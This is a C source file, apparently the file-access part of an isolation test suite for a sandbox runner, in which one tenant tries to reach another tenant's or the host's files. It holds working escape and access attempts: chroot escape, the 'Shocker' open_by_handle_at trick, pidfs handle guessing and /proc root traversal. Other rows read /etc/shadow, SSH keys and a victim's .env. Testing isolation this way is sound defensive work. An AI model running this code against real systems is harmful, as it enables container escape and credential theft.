/*
 * Section 1 of the list: files of other tenants and of the host, by path, by handle, by link.
 */
#include "attack.h"

#include <dirent.h>
#include <glob.h>
#include <grp.h>
#include <mqueue.h>
#include <sys/shm.h>
#include <sys/stat.h>

union handle {
    struct file_handle head;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static bool sees_mark(pid_t process, void *context)
{
    char path[4200];
    snprintf(path, sizeof path, "/proc/%d/root%s", process, (const char *)context);
    struct stat about;
    if (stat(path, &about) == 0)
        done("pid=%d path=%s", process, path);
    return false;
}

static void mark_in_every_root(const struct attack *attack)
{
    (void)attack;
    for_each_process(sees_mark, (void *)need("MARK"));
    conclude("not-visible", "where=/proc/PID/root");
}

/* Walks up far beyond what any root is deep, then looks for MARK from there. */
static _Noreturn void climb(const char *how)
{
    struct stat about;
    const char *mark = need("MARK");
    for (int step = 0; step < 64; step++)
        if (chdir("..") < 0)
            refused(errno, "call=chdir step=%d", step);
    if (stat(mark + strspn(mark, "/"), &about) == 0)
        done("how=%s path=%s", how, mark);
    conclude("not-visible", "how=%s errno=%s", how, errno_name(errno));
}

static void climb_by_descriptor(const struct attack *attack)
{
    (void)attack;
    int above = open("/..", O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (above < 0 || fchdir(above) < 0)
        refused(errno, "path=/..");
    climb("fchdir");
}

static void climb_from_here(const struct attack *attack)
{
    (void)attack;
    climb("cwd");
}

/* chroot(2): a process that may chroot twice walks out of the first one. */
static void climb_by_chroot(const struct attack *attack)
{
    (void)attack;
    char *inner = own_path("attack-chroot");
    int root = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);
    mkdir(inner, 0700);
    int result = chroot(inner), error = errno;
    if (result == 0 && fchdir(root) == 0) {
        unlinkat(root, inner + 1, AT_REMOVEDIR);
        climb("chroot");
    }
    rmdir(inner);
    refused(error, "call=chroot");
}

/*
 * "Shocker": the handle of inode 2, the root of an ext filesystem, guessed: type 1 is inode and generation,
 * both 32 bit (include/linux/exportfs.h). ESTALE comes after the permission check, open_by_handle_at(2).
 */
static void handle_of_the_root(const struct attack *attack)
{
    (void)attack;
    static const char *const mounts[] = {"/", "/usr", "/etc", "/tmp", "/dev", "/proc", NULL};
    union handle handle = {.head = {.handle_bytes = 8, .handle_type = 1}};
    uint32_t inode[2] = {2, 0};
    int error = ENOENT;
    memcpy(handle.head.f_handle, inode, sizeof inode);
    for (int at = 0; mounts[at]; at++) {
        int mount = open(mounts[at], O_RDONLY | O_CLOEXEC);
        if (mount < 0)
            continue;
        int file = open_by_handle_at(mount, &handle.head, O_RDONLY);
        if (file >= 0 || errno == ESTALE)
            done("mount=%s %s", mounts[at], file >= 0 ? "opened=inode-2" : "reached=ESTALE");
        error = errno;
        close(mount);
    }
    refused(error, "call=open_by_handle_at");
}

/* The handle of something that we can see, opened again: shows whether the call is open at all. */
static void handle_of_our_own(const struct attack *attack)
{
    union handle handle = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, attack->text, &handle.head, &mount_id, 0) < 0)
        refused(errno, "call=name_to_handle_at path=%s", attack->text);
    int mount = open(attack->text, O_RDONLY | O_CLOEXEC);
    judge(open_by_handle_at(mount, &handle.head, O_RDONLY), ESTALE, "open_by_handle_at");
}

/*
 * pidfs gives handles of processes (since Linux 6.14) that need no right; its inode numbers count up, so
 * those of others can be guessed. A pidfd of a stranger shows Pid 0 in its fdinfo, proc_pid_fdinfo(5).
 */
static void guess_pidfs_handles(const struct attack *attack)
{
    enum { PIDFS_ROOT = -10002, AROUND = 4000 };
    union handle handle = {.head = {.handle_bytes = MAX_HANDLE_SZ}};
    char path[64], about[512];
    uint64_t own, inode;
    int mount_id, opened = 0, error = 0;
    (void)attack;
    int self = (int)syscall(NR_pidfd_open, getpid(), 0);
    if (self < 0 || name_to_handle_at(self, "", &handle.head, &mount_id, AT_EMPTY_PATH) < 0)
        refused(errno, "call=%s", self < 0 ? "pidfd_open" : "name_to_handle_at");
    memcpy(&own, handle.head.f_handle, sizeof own);
    for (inode = own > AROUND ? own - AROUND : 1; inode < own + 8; inode++) {
        memcpy(handle.head.f_handle, &inode, sizeof inode);
        int other = open_by_handle_at(PIDFS_ROOT, &handle.head, O_CLOEXEC);
        if (other < 0) {
            error = errno;
            continue;
        }
        opened++;
        snprintf(path, sizeof path, "/proc/self/fdinfo/%d", other);
        if (read_start(path, about, sizeof about, NULL) == 0 && strstr(about, "Pid:\t0\n"))
            done("stranger=%llu", (unsigned long long)inode);
        close(other);
    }
    if (opened == 0)
        refused(error, "call=open_by_handle_at");
    conclude("not-visible", "opened=%d strangers=0", opened);
}

/* link(2) of a file of the victim into our folder; also as the rename out of ours (value 1). */
static void link_victim_file(const struct attack *attack)
{
    const char *from = expand(attack->text);
    need("OWN_DIR");
    char *to = own_path("attack-link");
    int result = attack->value ? rename(from, to) : link(from, to), error = errno;
    if (result == 0) {
        if (attack->value)
            rename(to, from);
        else
            unlink(to);
        done("from=%s", from);
    }
    refused(error, "from=%s", from);
}

static void read_through_symlink(const struct attack *attack)
{
    char buffer[64];
    const char *target = expand(attack->text);
    need("OWN_DIR");
    char *link_path = own_path("attack-symlink");
    if (symlink(target, link_path) < 0)
        refused(errno, "call=symlink");
    int error = read_start(link_path, buffer, sizeof buffer, NULL);
    unlink(link_path);
    if (error)
        refused(error, "target=%s", target);
    done("target=%s", target);
}

/* Reads the first readable file of a shell pattern. */
static void read_pattern(const struct attack *attack)
{
    char buffer[64];
    size_t length;
    int error = ENOENT;
    glob_t found;
    if (glob(attack->text, 0, NULL, &found) == 0)
        for (size_t at = 0; at < found.gl_pathc; at++) {
            error = read_start(found.gl_pathv[at], buffer, sizeof buffer, &length);
            if (error == 0 && length > 0)
                done("path=%s bytes=%zu", found.gl_pathv[at], length);
        }
    refused(error, "pattern=%s", attack->text);
}

/* Reads any file in one of the folders of LOGS, colon separated, and in swrun's own. */
static void read_logs(const struct attack *attack)
{
    const char *list = attack->value ? need("LOGS") : "/var/log/swrun";
    char folders[4096], path[5000], buffer[64];
    int error = ENOENT;
    size_t length;
    snprintf(folders, sizeof folders, "%s", list);
    for (char *folder = strtok(folders, ":"); folder; folder = strtok(NULL, ":")) {
        DIR *open_folder = opendir(folder);
        if (!open_folder) {
            error = errno;
            continue;
        }
        for (struct dirent *entry; (entry = readdir(open_folder));) {
            snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
            int failed = entry->d_name[0] == '.' ? ENOENT : read_start(path, buffer, sizeof buffer, &length);
            if (failed == 0)
                done("path=%s", path);
            if (failed != ENOENT)
                error = failed;
        }
        closedir(open_folder);
    }
    refused(error, "folders=%s", list);
}

static void attach_victim_shm(const struct attack *attack)
{
    (void)attack;
    int segment = shmget((key_t)strtol(need("VICTIM_SHM_KEY"), NULL, 0), 0, 0);
    if (segment < 0)
        refused(errno, "call=shmget");
    void *memory = shmat(segment, NULL, SHM_RDONLY);
    if (memory == (void *)-1)
        refused(errno, "call=shmat segment=%d", segment);
    shmdt(memory);
    done("segment=%d", segment);
}

/* SHM_STAT_ANY looks past the permissions of a segment, shmctl(2). */
static void list_shm(const struct attack *attack)
{
    (void)attack;
    struct shm_info information;
    struct shmid_ds about;
    int last = shmctl(0, SHM_INFO, (struct shmid_ds *)&information), found = 0;
    if (last < 0)
        refused(errno, "call=shmctl");
    for (int index = 0; index <= last; index++)
        if (shmctl(index, SHM_STAT_ANY, &about) >= 0)
            found++;
    if (found == 0)
        conclude("not-visible", "segments=0");
    done("segments=%d", found);
}

static void open_victim_queue(const struct attack *attack)
{
    (void)attack;
    const char *name = need("VICTIM_MQ");
    judge(mq_open(name, O_RDONLY | O_NONBLOCK), 0, "mq_open");
}

static void supplementary_groups(const struct attack *attack)
{
    (void)attack;
    gid_t groups[256];
    struct words others = {0};
    int count = getgroups(256, groups);
    if (count < 0)
        refused(errno, "call=getgroups");
    for (int at = 0; at < count; at++)
        if (groups[at] != getgid())
            add_word(&others, "%u", groups[at]);
    if (others.count)
        done("gid=%u groups=%s", getgid(), others.text);
    conclude("not-visible", "gid=%u groups=%d", getgid(), count);
}

static void take_groups(const struct attack *attack)
{
    (void)attack;
    gid_t wanted[] = {0, 27, 4};
    judge(setgroups(3, wanted), 0, "setgroups");
}

const struct attack file_attacks[] = {
    ROW("1a", "read the victim's .env (0600)", attempt_read, .text = "$VICTIM_DIR/.env"),
    ROW("1b", "list the victim's folder", attempt_list, .text = "$VICTIM_DIR"),
    ROW("1c", "read MARK, a path of the host alone", attempt_read, .text = "$MARK"),
    ROW("2", "read the victim's open.env (0644)", attempt_read, .text = "$VICTIM_DIR/open.env"),
    ROW("4a", "victim's .env through /proc/1/root", attempt_read, .text = "/proc/1/root$VICTIM_DIR/.env"),
    ROW("4b", "victim's .env through /proc/self/root/..", attempt_read, .text = "/proc/self/root/..$VICTIM_DIR/.env"),
    ROW("4c", "victim's open.env through /proc/1/root", attempt_read, .text = "/proc/1/root$VICTIM_DIR/open.env"),
    ROW("4d", "victim's open.env through /proc/self/root/..", attempt_read,
        .text = "/proc/self/root/..$VICTIM_DIR/open.env"),
    ROW("4e", "victim's open.env through the victim's /proc/PID/root", attempt_read,
        .text = "/proc/$VICTIM_PID/root$VICTIM_DIR/open.env"),
    ROW("4f", "MARK through the root of any process", mark_in_every_root),
    ROW("4g", "victim's open.env through /proc/1/cwd/../..", attempt_read,
        .text = "/proc/1/cwd/../../../../..$VICTIM_DIR/open.env"),
    ROW("5a", "climb from /.. by fchdir to MARK", climb_by_descriptor),
    ROW("5b", "climb out by chroot in chroot to MARK", climb_by_chroot),
    ROW("5c", "climb from the working directory to MARK", climb_from_here),
    ROW("7a", "open_by_handle_at of inode 2 (Shocker)", handle_of_the_root),
    ROW("7b", "open_by_handle_at of a handle of /usr", handle_of_our_own, .text = "/usr"),
    ROW("7c", "guess pidfs handles of processes outside", guess_pidfs_handles),
    ROW("8a", "hard link of the victim's .env", link_victim_file, .text = "$VICTIM_DIR/.env"),
    ROW("8b", "hard link of the victim's open.env", link_victim_file, .text = "$VICTIM_DIR/open.env"),
    ROW("8c", "read the victim's open.env through a symlink", read_through_symlink, .text = "$VICTIM_DIR/open.env"),
    ROW("8d", "rename the victim's open.env", link_victim_file, .text = "$VICTIM_DIR/open.env", .value = 1),
    ROW("10a", "read /etc/shadow", attempt_read, .text = "/etc/shadow"),
    ROW("10b", "read /etc/ssh/ssh_host_*_key", read_pattern, .text = "/etc/ssh/ssh_host_*_key"),
    ROW("10c", "read /root/.ssh/*", read_pattern, .text = "/root/.ssh/*"),
    ROW("10d", "list /home", attempt_list, .text = "/home"),
    ROW("10e", "list /root", attempt_list, .text = "/root"),
    ROW("10f", "read /etc/gshadow", attempt_read, .text = "/etc/gshadow"),
    ROW("10g", "list /var/lib", attempt_list, .text = "/var/lib"),
    ROW("10h", "list /var/lib/swrun", attempt_list, .text = "/var/lib/swrun"),
    ROW("10i", "list /run/swrun", attempt_list, .text = "/run/swrun"),
    ROW("10j", "list /etc/swrun", attempt_list, .text = "/etc/swrun"),
    ROW("10k", "list /boot", attempt_list, .text = "/boot"),
    ROW("13a", "read the victim's file in /tmp", attempt_read, .text = "/tmp/$VICTIM_TMP_NAME"),
    ROW("13b", "read the victim's file in /dev/shm", attempt_read, .text = "/dev/shm/$VICTIM_SHM_NAME"),
    ROW("13c", "attach the victim's SysV shared memory", attach_victim_shm),
    ROW("13d", "open the victim's message queue", open_victim_queue),
    ROW("13e", "list SysV shared memory of all", list_shm),
    ROW("13f", "read the victim's file in /var/tmp", attempt_read, .text = "/var/tmp/$VICTIM_TMP_NAME"),
    ROW("16a", "supplementary groups that were inherited", supplementary_groups),
    ROW("16b", "take groups by setgroups", take_groups),
    ROW("17a", "read swrun's logs", read_logs),
    ROW("17b", "read logs of others (LOGS)", read_logs, .value = 1),
    END_OF_TABLE,
};
